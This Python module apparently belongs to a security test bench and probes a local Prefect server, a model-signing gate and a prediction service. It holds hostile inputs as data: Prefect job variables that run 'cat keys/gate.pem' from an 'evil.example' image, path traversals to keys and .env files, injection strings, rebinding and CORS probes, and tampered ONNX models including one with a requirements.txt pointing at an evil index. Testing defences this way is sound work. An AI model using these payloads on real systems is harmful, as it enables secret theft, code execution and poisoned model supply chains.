"""Ways through the other services: Prefect, the gate and the predictor."""

import base64
import json
from collections.abc import Callable, Iterator
from typing import Any
from uuid import UUID

import onnx

from bench.attack import honest
from bench.attack.routes import HOSTS, ORIGINS
from bench.attack.target import LOCAL, PREFECT_LOGIN, WEB_PAGE, Answer, Target, basic, send
from bench.attack.ways import Attempt, Kind, Way
from registry.client.registry import Registry

_ID = str(UUID(int=1))
_COMMAND = {"command": "cat keys/gate.pem", "env": {"X": "1"}, "image": "evil.example/x"}
# What would run a command, show a secret or a log, or change who may do so.
_PREFECT = (
    ("POST", "deployments/", {"name": "planted", "flow_id": _ID, "job_variables": _COMMAND}),
    ("PATCH", f"deployments/{_ID}", {"job_variables": _COMMAND}),
    ("DELETE", f"deployments/{_ID}", None),
    ("POST", f"deployments/{_ID}/create_flow_run", {"job_variables": _COMMAND}),
    ("POST", f"deployments/{_ID}/schedule", {}),
    ("POST", "deployments/filter", {}),
    ("GET", "deployments/name/train/train", None),
    ("POST", "work_pools/", {"name": "planted", "type": "process", "base_job_template": {}}),
    ("PATCH", "work_pools/greenroom", {"base_job_template": {"job_configuration": {"command": "id"}}}),
    ("DELETE", "work_pools/greenroom", None),
    ("GET", "work_pools/greenroom", None),
    ("POST", "work_pools/greenroom/get_scheduled_flow_runs", {}),
    ("POST", "work_pools/greenroom/workers/heartbeat", {"name": "planted"}),
    ("POST", "work_pools/greenroom/queues/", {"name": "planted"}),
    ("POST", "flow_runs/", {"name": "planted", "flow_id": _ID, "job_variables": _COMMAND}),
    ("PATCH", f"flow_runs/{_ID}", {"job_variables": _COMMAND}),
    ("POST", f"flow_runs/{_ID}/set_state", {"state": {"type": "RUNNING"}, "force": True}),
    ("POST", f"flow_runs/{_ID}/resume", {}),
    ("POST", "flow_runs/filter", {}),
    ("POST", "task_runs/filter", {}),
    ("POST", "flows/", {"name": "planted"}),
    (
        "POST",
        "events",
        [
            {
                "event": "x",
                "resource": {"prefect.resource.id": "x"},
                "occurred": "2026-01-01T00:00:00Z",
                "id": _ID,
            }
        ],
    ),
    ("POST", "events/filter", {}),
    ("POST", "automations/", {"name": "planted", "trigger": {}, "actions": [{"type": "run-deployment"}]}),
    ("POST", "automations/filter", {}),
    ("POST", "block_types/", {"name": "planted", "slug": "planted"}),
    ("POST", "block_schemas/", {"fields": {}, "block_type_id": _ID}),
    (
        "POST",
        "block_documents/",
        {"name": "planted", "data": {}, "block_type_id": _ID, "block_schema_id": _ID},
    ),
    ("POST", "block_documents/filter", {"include_secrets": True}),
    ("GET", f"block_documents/{_ID}?include_secrets=true", None),
    ("POST", "variables/", {"name": "planted", "value": "1"}),
    ("POST", "variables/filter", {}),
    ("POST", "logs/", [{"name": "x", "level": 10, "message": "x", "timestamp": "2026-01-01T00:00:00Z"}]),
    ("POST", "logs/filter", {}),
    ("POST", "artifacts/filter", {}),
    ("POST", "concurrency_limits/", {"tag": "x", "concurrency_limit": 0}),
    ("POST", "v2/concurrency_limits/", {"name": "x", "limit": 0}),
    ("POST", "saved_searches/filter", {}),
    ("POST", "ui/flow_runs/history", {}),
    ("GET", "admin/settings", None),
    ("GET", "admin/version", None),
    ("POST", "admin/database/clear", {"confirm": False}),
    ("POST", "admin/database/drop", {"confirm": False}),
    ("GET", "csrf-token?client=planted", None),
)


def _false_logins(target: Target) -> dict[str, dict[str, str]]:
    password = target.settings["GREENROOM_PREFECT_PASSWORD"]
    return {
        "without a login": {},
        "with a wrong password": basic("greenroom", "wrong"),
        "with no password": basic("greenroom", ""),
        "as another user": basic("admin", password),
        "with a bearer": {"Authorization": f"Bearer {base64.b64encode(b'greenroom:x').decode()}"},
        "with half of the password": basic("greenroom", password[:16]),
        "with the password in another case": basic("greenroom", password.upper() + "X"),
    }


_LOGIN_NAMES = (
    "without a login",
    "with a wrong password",
    "with no password",
    "as another user",
    "with a bearer",
    "with half of the password",
    "with the password in another case",
)


def _prefect_ways() -> Iterator[Way]:
    for method, path, body in _PREFECT:
        for login in _LOGIN_NAMES:
            yield Way(
                "Prefect", LOCAL, f"{method} {path} {login}", _prefect(method, f"/api/{path}", body, login)
            )
    for path in (
        "/api//deployments/filter",
        "/api/./deployments/filter",
        "/API/deployments/filter",
        "/api/deployments/filter/",
        "/api/health/../deployments/filter",
        "/api/health/%2e%2e/deployments/filter",
        "/api%2Fdeployments/filter",
        "/api/ready/../work_pools/filter",
        "/greenroom-login.html/../api/flow_runs/filter",
    ):
        yield Way("Prefect", LOCAL, f"POST {path}", _prefect("POST", path, {}, "without a login"))
    for origin in ORIGINS:
        for path in ("/api/deployments/filter", "/api/work_pools/filter"):
            asked = {"Origin": origin, "Access-Control-Request-Method": "POST"}
            yield Way(
                "Prefect",
                WEB_PAGE,
                f"preflight from {origin} of {path}",
                _as_page("PREFECT", "OPTIONS", path, asked),
            )
            yield Way(
                "Prefect",
                WEB_PAGE,
                f"POST from {origin} of {path}",
                _as_page("PREFECT", "POST", path, {"Origin": origin}),
            )
    for method, path, body in _WITH_LOGIN:
        yield Way("Prefect", PREFECT_LOGIN, f"{method} {path}", _logged_in(method, path, body), harmless=True)


def _prefect(method: str, path: str, body: Any, login: str) -> Callable[[Target], Answer]:
    def act(target: Target) -> Answer:
        answer = send(target.url("PREFECT"), method, path, body, _false_logins(target)[login])
        # The page of the UI, which any other path leads to, holds nothing.
        return Answer(404) if answer.status == 200 and "<!DOCTYPE html>" in answer.text[:2000] else answer

    return act


def _as_page(
    service: str, method: str, path: str, headers: dict[str, str], body: Any = None
) -> Callable[[Target], Answer]:
    def act(target: Target) -> Answer:
        answer = send(target.url(service), method, path, body, headers)
        if "access-control-allow-origin" in answer.text.lower():
            return Answer(200, answer.text)
        return answer

    return act


# With the password: its own secrets are to be had by their holder, the gate's key is not among them.
_WITH_LOGIN = (
    ("GET", "admin/settings", None),
    ("POST", "logs/filter", {}),
    ("POST", "variables/filter", {}),
    ("POST", "block_documents/filter", {"include_secrets": True}),
    ("POST", "deployments/filter", {}),
    ("POST", "work_pools/filter", {}),
    ("POST", "flow_runs/filter", {"limit": 200}),
    ("POST", "artifacts/filter", {}),
    ("POST", "events/filter", {}),
    ("POST", "automations/filter", {}),
)


def _logged_in(method: str, path: str, body: Any) -> Callable[[Target], Answer]:
    def act(target: Target) -> Answer:
        login = basic("greenroom", target.settings["GREENROOM_PREFECT_PASSWORD"])
        return send(target.url("PREFECT"), method, f"/api/{path}", body, login)

    return act


# The gate


def _order(target: Target) -> dict[str, Any]:
    return {"model": target.model, "version": 3}


_MORE: dict[str, Any] = {
    "rows": "rows.parquet",
    "train": "s3://x/rows.parquet",
    "test": "x",
    "dataset": "sha256:" + "0" * 64,
    "policy": {"checks": []},
    "verdict": "passed",
    "passed": True,
    "key": "gate.pem",
    "gate_key": "x",
    "report_dir": "/tmp",
    "tracking_uri": "http://evil.example",
    "catalog": "/tmp",
    "spec": {},
    "declaration": {"name": "x"},
    "source": "models:/m-1",
    "files": {},
    "incumbent": None,
    "created_at": "2099-01-01T00:00:00Z",
    "username": "admin",
    "password": "x",
    "force": True,
    "env": {"PATH": "/tmp"},
    "command": "id",
    "__class__": "x",
}
_BODIES: dict[str, Callable[[dict[str, Any]], Any]] = {
    **{f"with {name}": (lambda o, n=name, v=value: {**o, n: v}) for name, value in _MORE.items()},  # type: ignore[misc]
    "empty": lambda _: b"",
    "no JSON": lambda _: b"nonsense",
    "a list": lambda o: [o],
    "text": lambda o: json.dumps(json.dumps(o)).encode(),
    "a form": lambda o: f"model={o['model']}&version=3".encode(),
    "a byte order mark": lambda o: b"\xef\xbb\xbf" + json.dumps(o).encode(),
    "UTF-16": lambda o: json.dumps(o).encode("utf-16"),
    "longer than it may be": lambda o: {**o, "model": "x" * 5000},
    "no version": lambda o: {"model": o["model"]},
    "no model": lambda _: {"version": 3},
    "an empty model": lambda o: {**o, "model": ""},
    "a model that is a list": lambda o: {**o, "model": [o["model"]]},
    "a model with a path": lambda o: {**o, "model": "../../x"},
    "a model with a quote": lambda o: {**o, "model": "x' OR name LIKE '%"},
    "a model that is not there": lambda o: {**o, "model": "nobody-has-this-name"},
    "a model with NUL": lambda o: {**o, "model": "x\0"},
    "half a character": lambda _: b'{"model": "\\ud800", "version": 3}',
    "brackets": lambda _: b"[" * 4000,
    "NaN": lambda _: b'{"model": "x", "version": NaN}',
    **{
        f"the version {v!r}": (lambda o, v=v: {**o, "version": v})
        for v in (0, -1, "3", 3.5, 2**31, 2**70, None, True, [3], {"a": 3}, 99, 1e300)
    },  # type: ignore[misc]
}
_GATE_LOGINS = {
    "bearer": "Bearer abc",
    "no base64": "Basic !!!",
    "nothing": "Basic",
    "no user": "Basic " + base64.b64encode(b":x").decode(),
    "digest": 'Digest username="admin"',
    "no UTF-8": "Basic " + base64.b64encode(b"\xff:x").decode(),
    "negotiate": "Negotiate x",
}


def _gate_ways() -> Iterator[Way]:
    for what, body in _BODIES.items():
        yield Way("gate", LOCAL, f"body: {what}", _gate(body))
    for what, login in _GATE_LOGINS.items():
        yield Way("gate", LOCAL, f"login: {what}", _gate(lambda o: o, {"Authorization": login}))
    for host in HOSTS:
        yield Way("gate", WEB_PAGE, f"rebinding {host!r}", _gate(lambda o: o, {"Host": host}))
    for origin in (*ORIGINS, "http://127.0.0.1:5000"):
        yield Way("gate", WEB_PAGE, f"origin {origin}", _gate(lambda o: o, {"Origin": origin}))
        asked = {"Origin": origin, "Access-Control-Request-Method": "POST"}
        yield Way(
            "gate", WEB_PAGE, f"preflight from {origin}", _as_page("GATE", "OPTIONS", "/verdicts", asked)
        )
    for method in ("GET", "PUT", "DELETE", "PATCH", "HEAD", "TRACE", "post"):
        yield Way("gate", LOCAL, f"method {method}", _gate(lambda o: o, method=method))
    for path in (
        "/",
        "/keys",
        "/key",
        "/sign",
        "/verdicts/",
        "//verdicts",
        "/verdicts/1",
        "/VERDICTS",
        "/verdicts%00",
        "/docs",
        "/openapi.json",
        "/metrics",
        "/health/../keys",
        "/../keys/gate.pem",
        "/static/gate.pem",
        "/verdicts/..%2fkeys",
        "/.env",
        "/debug",
        "/reload",
        "/shutdown",
    ):
        yield Way("gate", LOCAL, f"path {path}", _gate(lambda o: o, path=path))
        yield Way("gate", LOCAL, f"GET {path}", _gate(lambda o: o, path=path, method="GET"))
    yield Way("gate", LOCAL, "a version that nobody declares", _gate(lambda o: o))


def _gate(
    body: Callable[[dict[str, Any]], Any],
    headers: dict[str, str] | None = None,
    path: str = "/verdicts",
    method: str = "POST",
) -> Callable[[Target], Answer]:
    def act(target: Target) -> Answer:
        return _healthy(send(target.gate, method, path, body(_order(target)), headers))

    return act


def _healthy(answer: Answer) -> Answer:
    """Return an answer; an error of a service of ours counts as none at all, but for the 503 of a gate that says
    what it misses.
    """
    return Answer(0, answer.text) if answer.status >= 500 and answer.status != 503 else answer


# The predictor

_ADMIN = (
    "/reload",
    "/api/reload",
    "/admin",
    "/api/admin",
    "/api/models/energy/reload",
    "/api/models/energy",
    "/api/models",
    "/shutdown",
    "/debug",
    "/debug/pprof",
    "/env",
    "/.env",
    "/config",
    "/api/settings",
    "/keys",
    "/api/keys",
    "/cache",
    "/v1/models",
    "/v2/repository/models/energy/load",
    "/v2/repository/index",
    "/invocations",
    "/ping",
    "/actuator",
    "/console",
    "/api/predict/../../keys/gate.pem",
    "/api/predict/..%2f..%2fstack.env",
    "/static/../../keys/gate.pem",
    "/static-offline-docs/../../../keys/gate.pem",
    "/static-offline-docs/..%2f..%2f..%2fkeys%2fgate.pem",
    "/api/uploads/../../keys/gate.pem",
    "/api/datasets/../../x",
    "/metrics/../keys",
    "/api/predict/energy%00",
    "/api//models",
    "/readyz/../admin",
)


def _predictor_ways() -> Iterator[Way]:
    for path in _ADMIN:
        for method in ("GET", "POST", "PUT", "DELETE"):
            harmless = method == "GET" and path == "/api/models"
            yield Way("predictor", LOCAL, f"{method} {path}", _predictor(method, path), harmless=harmless)
    for origin in ORIGINS:
        asked = {
            "Origin": origin,
            "Access-Control-Request-Method": "POST",
            "Access-Control-Request-Headers": "content-type",
        }
        for path in ("/api/models", "/api/predict/energy"):
            yield Way(
                "predictor",
                WEB_PAGE,
                f"preflight from {origin} of {path}",
                _as_page("SERVING", "OPTIONS", path, asked),
            )
    for path in ("/docs", "/openapi.json", "/metrics", "/readyz", "/healthz", "/api/models"):
        yield Way("predictor", LOCAL, f"secrets in {path}", _predictor("GET", path), harmless=True)
    for name in ("X-Greenroom-Version", "X-Model-Version", "X-Reload", "X-Forwarded-For", "X-Original-URL"):
        yield Way(
            "predictor",
            LOCAL,
            f"a header {name}",
            _predictor("GET", "/api/models", {name: "3"}),
            harmless=True,
        )


def _predictor(method: str, path: str, headers: dict[str, str] | None = None) -> Callable[[Target], Answer]:
    def act(target: Target) -> Answer:
        answer = send(
            target.url("SERVING"), method, path, b"{}" if method in ("POST", "PUT") else None, headers
        )
        ready = path == "/readyz" and answer.status == 503
        return Answer(404, answer.text) if ready else _healthy(answer)

    return act


# What the gate is asked to sign, on a stack with a gate of its own: a version that somebody logged by hand.


def _spoiled(content: bytes) -> bytes:
    """Return a model that answers the same for everything, with the description of a good one."""
    model = onnx.load_from_string(content)
    for node in model.graph.node:
        for attribute in node.attribute:
            if attribute.name in ("target_weights", "nodes_values", "coefficients"):
                attribute.floats[:] = [0.0] * len(attribute.floats)
    return bytes(model.SerializeToString())


def _external(content: bytes) -> bytes:
    """Return a model whose weights are in a file of the machine."""
    model = onnx.load_from_string(content)
    tensor = model.graph.initializer.add(name="planted", data_type=onnx.TensorProto.FLOAT, dims=[4])
    tensor.data_location = onnx.TensorProto.EXTERNAL
    tensor.external_data.add(key="location", value="keys/gate.pem")
    return bytes(model.SerializeToString())


def _operator(name: str, domain: str = "") -> Callable[[bytes], bytes]:
    """Return what puts one more operator into a model."""

    def changed(content: bytes) -> bytes:
        model = onnx.load_from_string(content)
        output = model.graph.output[0].name
        model.graph.node.add(op_type=name, domain=domain, input=[output], output=["planted"], name="planted")
        return bytes(model.SerializeToString())

    return changed


def _as_it_is(content: bytes) -> bytes:
    return content


_EVIL_MLMODEL = honest.MLMODEL.replace(b"mlflow.onnx", b"evil")
_PASSED = json.dumps({"model": "energy", "passed": True, "outcomes": []}).encode()
# What is changed in a good model's bytes, and what lies in its run and beside it.
_PLANTED: dict[str, tuple[Callable[[bytes], bytes], dict[str, bytes], dict[str, bytes]]] = {
    "a bad model": (_spoiled, {}, {}),
    "a bad model, rows beside it": (_spoiled, {"gate/train.parquet": b"x", "gate/test.parquet": b"x"}, {}),
    "a bad model, a verdict beside it": (
        _spoiled,
        {"gate/verdict.json": _PASSED, "gate/checks.json": b"{}"},
        {},
    ),
    "a bad model, a declaration beside it": (_spoiled, {"gate/declaration.json": b'{"name": "energy"}'}, {}),
    "a bad model, a signature beside it": (_spoiled, {"gate/model.sig": b"{}", "gate/model.pub": b"x"}, {}),
    "a bad model, all of these": (
        _spoiled,
        dict.fromkeys(("gate/train.parquet", "gate/verdict.json", "gate/declaration.json"), b"x"),
        {},
    ),
    "weights in a file of the machine": (_external, {}, {}),
    "a loop": (_operator("Loop"), {}, {}),
    "a condition": (_operator("If"), {}, {}),
    "an operator of another domain": (_operator("Evil", "evil.example"), {}, {}),
    "an operator that reads files": (_operator("ReadFile", "ai.onnx.contrib"), {}, {}),
    "code beside the model": (_as_it_is, {}, {"code/evil.py": b"import os"}),
    "a pickle beside the model": (_as_it_is, {}, {"python_model.pkl": b"x"}),
    "data beside the model": (_as_it_is, {}, {"model.onnx.data": b"x"}),
    "another loader": (_as_it_is, {}, {"MLmodel": _EVIL_MLMODEL}),
    "requirements from elsewhere": (
        _as_it_is,
        {},
        {"requirements.txt": b"--index-url http://evil.example\nx"},
    ),
    "no model": (lambda _: b"x", {}, {}),
}


def _judged_ways() -> Iterator[Way]:
    for what in _PLANTED:
        yield Way("planted versions", LOCAL, what, _planted(what))


def _planted(what: str) -> Callable[[Target], Attempt]:
    """Register such a version of the judged model, let the gate judge it, and move it up."""
    change, in_run, beside = _PLANTED[what]

    def act(target: Target) -> Attempt:
        client, registry = target.client, Registry(target.client)
        good = registry.version(target.judged, 1)
        experiment = str(registry.run(good)["info"]["experiment_id"])
        version = honest.register(target, target.judged, experiment, change(registry.model_bytes(good)))
        for path, content in in_run.items():
            registry.put_artifact(version, path, content)
        for path, content in beside.items():
            client.put_artifact(honest.location(target, version), path, content)
        order = {"model": target.judged, "version": version.number}
        judged = send(target.gate, "POST", "/verdicts", order)
        # A verdict that refuses is an answer like any other.
        refused = Answer(409, judged.text) if judged.status == 200 and '"failed"' in judged.text else judged
        about = {"name": target.judged, "version": str(version.number)}
        moves = [
            target.mlflow(
                LOCAL, "POST", "/api/2.0/mlflow/model-versions/transition-stage", {**about, "stage": stage}
            )
            for stage in ("Staging", "Production")
        ]
        return Attempt((refused, *moves))

    return act


KINDS = (
    Kind(
        "Prefect", "its API without its login, with false ones, from a web page, and with it", _prefect_ways
    ),
    Kind(
        "gate",
        "orders with anything besides a name and a number, false logins, other hosts and pages",
        _gate_ways,
    ),
    Kind(
        "predictor",
        "routes that other servers have for their operators, secrets in those it has",
        _predictor_ways,
    ),
    Kind(
        "planted versions",
        "versions logged by hand, with rows, verdicts, code and loops, which the gate is asked to sign",
        _judged_ways,
        whole=True,
    ),
)
